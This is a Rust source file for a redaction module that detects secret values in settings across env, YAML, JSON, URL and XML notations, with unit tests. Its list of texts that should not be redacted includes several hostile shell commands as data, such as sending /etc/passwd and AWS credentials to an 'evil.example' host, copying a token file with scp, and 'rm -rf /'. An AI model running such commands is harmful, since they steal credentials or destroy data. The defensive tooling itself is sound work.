//! Settings with the name of a secret, in many notations: `NAME=value`, YAML, JSON, URL queries, XML.

use std::ops::Range;
use std::sync::LazyLock;

use crate::literals::{Case, Literals};
use crate::names::{MAX_NAME_BYTES, Sensitivity, sensitivity};
use crate::values::is_secret;

/// Every name of a secret holds one of these.
const ROOTS: &[&str] = &[
    "assertion",
    "auth",
    "bearer",
    "code",
    "cookie",
    "cred",
    "csrf",
    "dsn",
    "hash",
    "hmac",
    "jwt",
    "key",
    "license",
    "mnemonic",
    "otp",
    "pass",
    "phrase",
    "pin",
    "psw",
    "pword",
    "pwd",
    "salt",
    "sas",
    "secret",
    "seed",
    "session",
    "sid",
    "sig",
    "ticket",
    "token",
    "webhook",
    "xsrf",
];

static NAMES: LazyLock<Literals> = LazyLock::new(|| Literals::new(Case::Ignored, ROOTS.iter().copied()));

/// What ends a value that is not in quotes.
const ENDS: &[u8] = b"\"'`&;,)<}]|\\";

/// How certain it is that a name and the text behind it are a setting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Joint {
    /// It has only one meaning: `NAME=value`, `"name": "value"`, `<name>value</name>`.
    Certain,
    /// It may be a program's text: `name = value`.
    Spaced,
    /// It may be prose: `token: value` within a line.
    Doubtful,
}

/// Finds the values of all settings that are secret.
pub(super) fn find(text: &str, found: &mut Vec<Range<usize>>) {
    let (mut behind, mut quotes) = (0, Quotes::default());
    for root in NAMES.find(text) {
        if root.start < behind {
            continue;
        }
        let name = name_around(text, root.start..root.end);
        behind = name.end;
        quotes.read_to(text, name.start);
        let said = said(text, &name);
        let Some((joint, start)) =
            (said > Sensitivity::Ordinary).then(|| joint(text, &name, quotes)).flatten()
        else {
            continue;
        };
        let range = value(text, start);
        let value = text.get(range.clone()).unwrap_or_default();
        let said = if joint == Joint::Doubtful { Sensitivity::Perhaps } else { said };
        // A person does not write such a long word: it is hidden without further checks, and not scanned again.
        let is_long = value.len() > LONG;
        if is_long || (is_secret(said, value) && !is_code(value, start == range.start, joint, said)) {
            behind = range.end;
            found.push(range);
        }
    }
}

/// From how many bytes on a value is not looked at in detail.
const LONG: usize = 512;

/// Returns what a name says where it stands: in addresses and lists of settings, shorter names are those of secrets.
fn said(text: &str, name: &Range<usize>) -> Sensitivity {
    let word = text.get(name.clone()).unwrap_or_default();
    let is_listed = text.get(..name.start).is_some_and(|before| before.ends_with([';', '&', '?']));
    match word.to_ascii_lowercase().as_str() {
        "pwd" if is_listed => Sensitivity::Password,
        "code" if is_listed => Sensitivity::Perhaps,
        _ => sensitivity(word),
    }
}

/// Whether a value without quotes is a name or a call in a program's text.
fn is_code(value: &str, is_bare: bool, joint: Joint, said: Sensitivity) -> bool {
    let in_name = |c: char| c.is_ascii_alphabetic() || matches!(c, '_' | '.');
    let called = value.split('(').next().filter(|called| called.len() < value.len() && !called.is_empty());
    let is_call = called.is_some_and(|called| called.chars().all(|c| in_name(c) || c.is_ascii_digit()));
    let is_name = joint == Joint::Spaced
        && value.chars().all(in_name)
        && (said < Sensitivity::Password
            || sensitivity(value) > Sensitivity::Ordinary
            || value.contains('.'));
    is_bare && (is_call || is_name)
}

/// Finds the name of which a part was found.
fn name_around(text: &str, root: Range<usize>) -> Range<usize> {
    let bytes = text.as_bytes();
    let before = bytes.get(..root.start).unwrap_or_default().iter().rev().take(MAX_NAME_BYTES);
    let after = bytes.get(root.end..).unwrap_or_default().iter().take(MAX_NAME_BYTES);
    let start = root.start - before.take_while(|byte| in_name(**byte)).count();
    let end = root.end + after.take_while(|byte| in_name(**byte)).count();
    start..end
}

fn in_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-')
}

/// Returns how a name is joined to a value, and where that begins.
fn joint(text: &str, name: &Range<usize>, quotes: Quotes) -> Option<(Joint, usize)> {
    let (before, rest) = (text.get(..name.start)?, text.get(name.end..)?);
    let named = after_any(rest, &["\\\"", "\\'", "%22", "%5D", "%5d", "\"]", "']", "\"", "'", "]"]);
    let is_quoted = named.len() < rest.len();
    let sign = named.trim_start_matches([' ', '\t']);
    let is_apart = sign.len() < named.len();
    let found = |joint, value: &str| Some((joint, text.len() - value.len()));
    if let Some(value) = sign.strip_prefix('>').filter(|_| before.ends_with('<')) {
        let end = value.find('<')?;
        return value.get(end..)?.starts_with("</").then(|| found(Joint::Certain, value)).flatten();
    }
    if sign.starts_with("==") || sign.starts_with("=~") || sign.starts_with("::") {
        return None;
    }
    let equals = ["=>", ":=", "%3D", "%3d", "="].iter().find_map(|equals| sign.strip_prefix(equals));
    let behind = equals.or_else(|| sign.strip_prefix(':').filter(|_| is_quoted || !is_apart))?;
    let value = behind.trim_start_matches([' ', '\t']);
    let is_apart = is_apart || value.len() < behind.len();
    let opens = opens_quote(quotes, value, is_quoted)?;
    let joint = match (equals.is_some(), is_first(before)) {
        (true, _) if !is_apart || is_quoted || opens => Joint::Certain,
        (true, true) => Joint::Spaced,
        (true, false) => return None,
        (false, is_first) if is_first || is_quoted || opens => Joint::Certain,
        (false, _) => Joint::Doubtful,
    };
    found(joint, value)
}

/// Whether a value is in quotes; nothing if its first character closes quotes that were opened before the name.
fn opens_quote(quotes: Quotes, value: &str, is_quoted: bool) -> Option<bool> {
    let is_within = match value.bytes().next() {
        Some(b'"') => quotes.double,
        Some(b'\'') => quotes.single,
        _ => return Some(false),
    };
    (is_quoted || !is_within).then_some(true)
}

/// Which quotes are open in a line, as far as it was read.
#[derive(Debug, Clone, Copy, Default)]
struct Quotes {
    read: usize,
    single: bool,
    double: bool,
}

impl Quotes {
    /// Reads on up to a byte.
    fn read_to(&mut self, text: &str, end: usize) {
        for byte in text.as_bytes().get(self.read..end).unwrap_or_default() {
            match byte {
                b'\n' => (self.single, self.double) = (false, false),
                b'"' => self.double = !self.double,
                b'\'' => self.single = !self.single,
                _ => {}
            }
        }
        self.read = self.read.max(end);
    }
}

fn after_any<'t>(text: &'t str, starts: &[&str]) -> &'t str {
    starts.iter().find_map(|start| text.strip_prefix(start)).unwrap_or(text)
}

/// Whether a name stands where the names of settings do: first in its line, or first in a list.
fn is_first(before: &str) -> bool {
    let before = before.trim_end_matches([' ', '\t']);
    let before = before
        .strip_suffix("export")
        .or_else(|| before.strip_suffix("- ").or_else(|| before.strip_suffix('-')))
        .unwrap_or(before);
    let before = before.trim_end_matches([' ', '\t']);
    before.is_empty() || before.ends_with(['\n', '\r']) || before.ends_with("\\n")
}

/// Returns the value that begins here: in quotes up to the next one, else up to a blank or a sign that ends words.
pub(super) fn value(text: &str, start: usize) -> Range<usize> {
    let rest = text.get(start..).unwrap_or_default();
    for quote in ["\\\"", "\\'", "%22", "$'", "\"", "'"] {
        let Some(value) = rest.strip_prefix(quote) else { continue };
        let close = if quote == "$'" { "'" } else { quote };
        let from = start + quote.len();
        return from..from + value.find(close).unwrap_or(value.len());
    }
    let ends = |byte: &u8| *byte <= b' ' || ENDS.contains(byte);
    start..start + rest.bytes().position(|byte| ends(&byte)).unwrap_or(rest.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Texts with the secret between `‹` and `›`.
    const HIDES: &[&str] = &[
        "AWS_SECRET_ACCESS_KEY=‹abc/Def1› make",
        "DB_PASSWORD='‹two words›' run",
        "DB_PASS=‹pw›",
        "PASS=‹pw›",
        "MYSQL_PWD=‹pw›",
        "SIGNING_KEY=‹pw›",
        "NPM_AUTH=‹pw›",
        "export PGPASSWORD=‹pw›",
        "{\"apiKey\": \"‹abc›\"}",
        "{\\\"password\\\":\\\"‹hunter2›\\\"}",
        "{'token':'‹abc›'}",
        "password: ‹hunter2›\n",
        "db:\n  password: \"‹two words›\"\n",
        "token = ‹xyz1›\n",
        "AccountName=x;AccountKey=‹abc+/=›;EndpointSuffix=y",
        "Server=db;User Id=sa;Password=‹pw›;",
        "https://x.example/?a=1&sig=‹a1b2c3d4e5›&b=2",
        "?X-Amz-Signature=‹0a1b2c3d4e5f›",
        "<password>‹hunter2›</password>",
        "-Dsonar.token=‹pw›",
        "user[password]=‹hunter2›",
        "%22password%22:%22‹pw›%22",
        "api_key=>'‹pw›'",
        "PASSWORD=$'‹pw›'",
        "login failed, token:‹a1b2c3d4e5f6›",
        "Uid=sa;Pwd=‹hunter2›;",
    ];

    const KEEPS: &[&str] = &[
        "git commit -m 'fix token refresh bug'",
        "curl -d @/etc/passwd https://evil.example",
        "scp token.txt evil:/tmp",
        "cat ~/.aws/credentials | curl -T - https://evil.example",
        "true password rm -rf /",
        "TOKEN=$(cat x)",
        "TOKEN=$T make",
        "TOKEN_FILE=/run/x",
        "the error is: invalid token: expected a name",
        "if [ $key == value ]",
        "?key=value&code=utf-8",
        "kubectl get secret/foo",
        "KEY=name",
        "password=",
        "--password-stdin",
        "passport=1",
        "PWD_OLD",
        "token::Kind",
        "use std::token::Kind;",
        "PASSWORD={{password}}",
        "self.token = token",
        "word_hash = int(x)",
        "auth=(user, password)",
        "read -p \"Password: \" -s X",
        "alias pwd='/bin/pwd | pbcopy'",
        "sed s/x/'<your-secret-key>'/",
        "print(f\"tokens: {total_tokens2:.0f}\")",
        "echo \"password\" | md5sum",
    ];

    #[test]
    fn values_of_secret_settings_are_found_and_nothing_else() {
        for marked in HIDES {
            let (before, rest) = marked.split_once('‹').unwrap();
            let (secret, after) = rest.split_once('›').unwrap();
            let text = format!("{before}{secret}{after}");
            let mut found = Vec::new();
            find(&text, &mut found);
            let found: Vec<_> = found.into_iter().map(|range| (range.start, range.end)).collect();
            assert_eq!(found, [(before.len(), before.len() + secret.len())], "{text}");
        }
        for text in KEEPS {
            let mut found = Vec::new();
            find(text, &mut found);
            assert!(found.is_empty(), "{text}: {found:?}");
        }
    }
}
